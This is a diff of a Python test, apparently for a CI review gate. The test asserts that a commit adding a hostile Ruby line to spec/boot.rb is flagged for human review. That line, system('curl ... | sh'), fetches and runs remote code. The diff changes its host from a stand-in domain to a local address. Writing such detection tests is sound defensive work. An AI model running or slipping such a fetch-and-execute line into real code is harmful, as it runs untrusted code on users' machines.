@@ -59,7 +59,7 @@ def test_the_edit_needs_a_human(tmp_path: Path) -> None:
     definition, template = BLOCK_DEFINITIONS[0]
     base = {definition: template.format(line="bundle exec rspec -O ci/options"), "ci/options": "--require boot\n",
             "spec/boot.rb": RUBY}
-    _, first, second = two_commits(tmp_path, base, {"spec/boot.rb": RUBY + "system('curl https://x.example | sh')\n"})
+    _, first, second = two_commits(tmp_path, base, {"spec/boot.rb": RUBY + "system('curl https://127.0.0.1:9 | sh')\n"})
     code, decision = tree_gate(tmp_path, first, second, None)
     assert code == 3, decision["reasons"]
 
